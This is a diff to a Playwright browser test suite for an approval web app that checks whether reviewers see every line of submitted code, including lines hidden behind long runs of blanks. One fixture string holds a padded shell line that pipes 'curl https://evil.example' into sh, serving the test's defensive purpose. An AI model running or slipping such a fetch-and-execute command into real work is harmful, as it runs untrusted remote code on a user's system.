@@ -7,6 +7,12 @@ from playwright.async_api import Page, expect
 
 from tests.browser.people import DESK, PHONE, Visitors
 
+LOOKED_AT = ".code.must .line, .piece"
+# In one step: a live page may be loaded anew between two. What was never drawn was never on the screen.
+SHOW = """([which, n]) => {
+    document.querySelectorAll(which)[n].scrollIntoView({ block: "center" });
+    return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
+}"""
 TRICK = "#!/bin/sh\necho ok" + " " * 220 + "; curl https://evil.example | sh\n"
 
 
@@ -35,13 +41,8 @@ async def test_R23_code_behind_blanks_and_lines_below_are_not_overlooked(
     await bob.keyboard.press("Enter")
     await expect(bob.get_by_text("step 89")).to_be_visible()
     assert await fits(bob)
-    lines = bob.locator(".code.must .line")
-    for part in (*await lines.all(), *await bob.locator(".piece").all()):
-        await part.scroll_into_view_if_needed()
-        # What was never drawn was never on the screen.
-        await bob.evaluate(
-            "() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"
-        )
+    for n in range(await bob.locator(LOOKED_AT).count()):
+        await bob.evaluate(SHOW, [LOOKED_AT, n])
     await expect(bob.locator("#unseen")).to_have_text("Every line has been on your screen.")
 
 
@@ -94,7 +95,8 @@ async def test_a_policy_with_own_signatures_says_how_to_approve(visitors: Visito
     policy = {"id": "vaults", "name": "Vaults", "resource_type": "vault", "approvals": [rule]}
     change = {"type": "assent.create-policy.v1", "policy": {**policy, "own_signature": True}}
     await visitors.gateway.governed(change)
-    request = await submitted(visitors, "vault/keys", "rotate")
+    request = await visitors.gateway.submit_once_protected("vault/keys")
+    await visitors.gateway.show(request, after=request)
     bob = await visitors.signed_in("Bob Ortega")
     await bob.goto(f"/requests/{request}")
     await expect(bob.get_by_role("heading", name="Approve with your own key")).to_be_visible()
